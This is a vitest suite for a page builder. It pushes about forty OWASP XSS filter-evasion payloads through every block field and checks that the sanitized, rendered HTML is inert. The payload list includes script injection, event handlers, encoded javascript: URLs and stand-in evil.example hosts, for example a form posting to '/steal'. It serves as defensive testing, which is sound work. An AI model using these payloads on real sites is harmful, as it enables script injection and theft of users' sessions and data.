import type { Element } from "domhandler";
import { parseDocument } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { readBlocks } from "./content";
import { allBlockModules, getBlockModule } from "./registry";
import { BlockList } from "./render";
import { sanitizeBlocks } from "./sanitize.server";
import { renderStaticHtml } from "./static-render.server";
import type { Block, FieldDescription } from "./types";

/**
 * Consolidated XSS suite: the OWASP filter-evasion classics pushed through every place where editor
 * input reaches HTML, along the public page's own path (readBlocks → sanitizeBlocks → static render).
 * The output must be inert: no script-capable element, no event handler, no script or data URL.
 */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"x\" ONERROR=\"alert(1)\">",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>",
  "<body onload=alert(1)>",
  "<div onmouseover=\"alert(1)\">x</div>",
  "<input autofocus onfocus=alert(1)>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
  "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
  "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
  "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
  "<a href=\" \tjavascript:alert(1)\">x</a>",
  "<a href=\"vbscript:msgbox(1)\">x</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
  "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
  "<a href=\"//evil.example\">x</a>",
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<embed src=\"https://evil.example/x.swf\">",
  "<base href=\"https://evil.example/\">",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "<form action=\"https://evil.example/steal\"><button formaction=\"javascript:alert(1)\">x</button></form>",
  "<div style=\"background:url(javascript:alert(1))\">x</div>",
  "<div style=\"width: expression(alert(1))\">x</div>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<!--<img src=x onerror=alert(1)>-->",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<img srcset=\"javascript:alert(1) 1x\">",
  "\"><img src=x onerror=alert(1)>",
  "'><svg/onload=alert(1)>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
];

const URL_ATTRIBUTES = ["href", "src", "action", "formaction", "xlink:href", "poster", "data", "background", "srcdoc", "srcset", "cite"];
const FORBIDDEN_TAGS = new Set(["script", "object", "embed", "base", "meta", "link", "style", "applet", "frame", "frameset"]);

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;|&newline;/gi, "")
    .replace(/\s+/g, "").replace(/\p{Cc}/gu, "")
    .toLowerCase();
}

function elements(html: string): Element[] {
  const out: Element[] = [];
  const visit = (nodes: unknown[]) => {
    for (const node of nodes as Element[]) {
      if (node.type === "tag" || node.type === "script" || node.type === "style") out.push(node);
      if (node.children) visit(node.children);
    }
  };
  visit(parseDocument(html).children);
  return out;
}

/** Problems that would let the payload run; [] means inert. */
function problems(html: string): string[] {
  const found: string[] = [];
  for (const el of elements(html)) {
    const tag = el.name.toLowerCase();
    const isEmbedFrame = tag === "iframe" && el.attribs.sandbox === "allow-scripts";
    if (FORBIDDEN_TAGS.has(tag)) found.push(`<${tag}>`);
    if (tag === "iframe" && !isEmbedFrame) found.push("<iframe> without the embed sandbox");
    // Our own forms post to this site: a path, or "#…" (this very page, then to the form).
    if (tag === "form" && el.attribs.action && !/^[/#]/.test(el.attribs.action)) found.push(`form action ${el.attribs.action}`);
    for (const [name, value] of Object.entries(el.attribs)) {
      if (/^on/i.test(name)) found.push(`${tag}[${name}]`);
      if (name === "srcdoc" && isEmbedFrame) continue;
      if (URL_ATTRIBUTES.includes(name.toLowerCase())) {
        const v = decode(value);
        if (/(^|,)(javascript|vbscript|data|livescript):/.test(v) || /^\/\/[^/]/.test(v)) found.push(`${tag}[${name}=${value}]`);
      }
      if (name === "style" && /expression\(|url\(\s*['"]?\s*(javascript|data|vbscript):|@import/i.test(decode(value))) found.push(`${tag}[style=${value}]`);
    }
  }
  return found;
}

/** Exactly the public page's path from stored content to HTML. */
function publicHtml(content: unknown): string {
  return renderStaticHtml(<BlockList blocks={sanitizeBlocks(readBlocks(content))} />).html;
}

type Path = (string | number)[];

/** Where a person types text, HTML or an address into a block: from its field descriptions. */
function payloadPaths(fields: Record<string, FieldDescription>, prefix: Path = []): Path[] {
  return Object.entries(fields).flatMap(([key, d]) => fieldPaths(d, [...prefix, key]));
}

function fieldPaths(d: FieldDescription, path: Path): Path[] {
  if (d.kind === "text" || d.kind === "richtext" || d.kind === "link" || d.kind === "asset") return [path];
  if (d.kind === "group") return payloadPaths(d.fields, path);
  if (d.kind === "list") return d.fields ? payloadPaths(d.fields, [...path, 0]) : fieldPaths(d.item!, [...path, 0]);
  return [];
}

function withValues(paths: Path[], value: string): Record<string, unknown> {
  const root: Record<string, unknown> = {};
  for (const path of paths) {
    let node: Record<string | number, unknown> = root;
    path.forEach((key, i) => {
      if (i === path.length - 1) node[key] = value;
      else node = (node[key] ??= typeof path[i + 1] === "number" ? [] : {}) as Record<string | number, unknown>;
    });
  }
  return root;
}

const startsWith = (a: PropertyKey[], b: PropertyKey[]) => b.every((k, i) => a[i] === k);

/**
 * The payload in every text, HTML and address field of a block. Fields whose validation refuses the
 * payload (an e-mail address, a field name) are left out, so the content really renders instead of
 * falling back to the defaults.
 */
function payloadContent(type: string, payload: string): { content: Record<string, unknown>; paths: Path[] } {
  const module = getBlockModule(type)!;
  let paths = payloadPaths(module.fields);
  for (;;) {
    const content = withValues(paths, payload);
    const parsed = module.schema.safeParse(content);
    if (parsed.success) return { content, paths };
    const refused = parsed.error.issues.map((issue) => issue.path);
    const kept = paths.filter((path) => !refused.some((bad) => startsWith(path, bad) || startsWith(bad, path)));
    if (kept.length === paths.length) throw new Error(`${type}: ${parsed.error.message}`);
    paths = kept;
  }
}

/** Shapes the generated content does not reach: other select values, nested blocks. */
const EXTRA_CASES: [string, (payload: string) => Record<string, unknown>, Partial<Block>?][] = [
  ["hero", (x) => ({ buttons: [{ text: x, href: x, linkType: "external" }] })],
  ["contact-info", (x) => ({ contacts: [{ icon: "mail", label: x, value: x }, { icon: "phone", label: x, value: x }] })],
  ["contact-form", (x) => ({ fields: [{ label: x, type: "select", placeholder: x, options: [x] }] })],
  ["section", (x) => ({ title: x, backgroundType: "image", backgroundImage: x }), { slots: { children: [{ id: "c", type: "html-content", content: { html: "<img src=x onerror=alert(1)>" } }] } }],
  ["columns", (x) => ({ leftText: x, rightText: x, leftColumn: [{ id: "n", type: "paragraph", content: { text: x } }] })],
];

describe("XSS: every payload comes out inert", () => {
  it(`has at least 25 payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(25);
  });

  it("the checker itself finds live payloads (so a pass means something)", () => {
    expect(problems('<img src=x onerror="alert(1)">')).not.toEqual([]);
    expect(problems('<a href="&#106;avascript:alert(1)">x</a>')).not.toEqual([]);
    expect(problems("<script>alert(1)</script>")).not.toEqual([]);
    expect(problems('<div style="background:url(javascript:alert(1))"></div>')).not.toEqual([]);
    expect(problems('<iframe srcdoc="x"></iframe>')).not.toEqual([]);
  });

  it("reaches every HTML field of every block, and text fields in most", () => {
    let reached = 0;
    for (const m of allBlockModules()) {
      const { paths } = payloadContent(m.type, PAYLOADS[0]);
      reached += paths.length;
      for (const field of m.htmlFields ?? []) expect(paths.map((p) => p[0]), `${m.type}.${field}`).toContain(field);
    }
    expect(reached).toBeGreaterThan(100);
  });

  for (const m of allBlockModules()) {
    it(`${m.type}: all payloads in every text and URL field`, () => {
      for (const payload of PAYLOADS) {
        const html = publicHtml([{ id: "x", type: m.type, content: payloadContent(m.type, payload).content }]);
        expect(problems(html), `${m.type} ← ${payload}`).toEqual([]);
      }
    });
  }

  for (const [type, place, extra] of EXTRA_CASES) {
    it(`${type}: payloads in further shapes`, () => {
      for (const payload of PAYLOADS) {
        const html = publicHtml([{ id: "x", type, content: place(payload), ...extra }]);
        expect(problems(html), `${type} ← ${payload}`).toEqual([]);
      }
    });
  }

  it("raw-HTML page content and legacy shapes", () => {
    for (const payload of PAYLOADS) {
      for (const content of [payload, `<p>Text</p>${payload}`, JSON.stringify({ sections: [{ type: "html-content", html: payload }] }), { blocks: [{ id: "b", type: "paragraph", content: { text: payload } }] }]) {
        expect(problems(publicHtml(content)), String(content)).toEqual([]);
      }
    }
  });

  it("nested layouts: children, per-column children and content block lists", () => {
    for (const payload of PAYLOADS) {
      const nested: Block = { id: "n", type: "paragraph", content: { text: payload } };
      const html = publicHtml([
        { id: "s", type: "section", content: {}, children: [nested] },
        { id: "t", type: "two-column", content: {}, children: [[nested], [{ ...nested, id: "n2" }]] },
        { id: "f", type: "flexible-row", content: { columns: 2 }, children: [[{ ...nested, id: "n3" }], []] },
        { id: "g", type: "grid", content: { columns: [[{ ...nested, id: "n4" }], []] } },
        { id: "c", type: "container", content: {}, children: [{ id: "h", type: "html-code", content: { html: payload } }] },
      ]);
      expect(problems(html), payload).toEqual([]);
    }
  });

  it("embed code stays inside a sandbox without same-origin access", () => {
    for (const payload of PAYLOADS) {
      const html = publicHtml([{ id: "e", type: "embed", content: { embedCode: payload } }]);
      const frames = elements(html).filter((el) => el.name === "iframe");
      expect(frames).toHaveLength(payload.trim() ? 1 : 0);
      for (const frame of frames) {
        expect(frame.attribs.sandbox).toBe("allow-scripts");
        expect(frame.attribs.sandbox).not.toMatch(/allow-same-origin|allow-top-navigation|allow-popups/);
      }
      // Outside the frame's srcdoc nothing of the payload is markup.
      expect(problems(html)).toEqual([]);
    }
  });

  it("block ids and types cannot break out of their attributes", () => {
    const html = publicHtml([
      { id: '"><img src=x onerror=alert(1)>', type: "heading", content: { text: "Titel" } },
      { id: "z", type: '"><script>alert(1)</script>', content: {} },
    ]);
    expect(problems(html)).toEqual([]);
    expect(html).toContain("Unbekannter Block-Typ: &quot;&gt;&lt;script&gt;");
  });
});
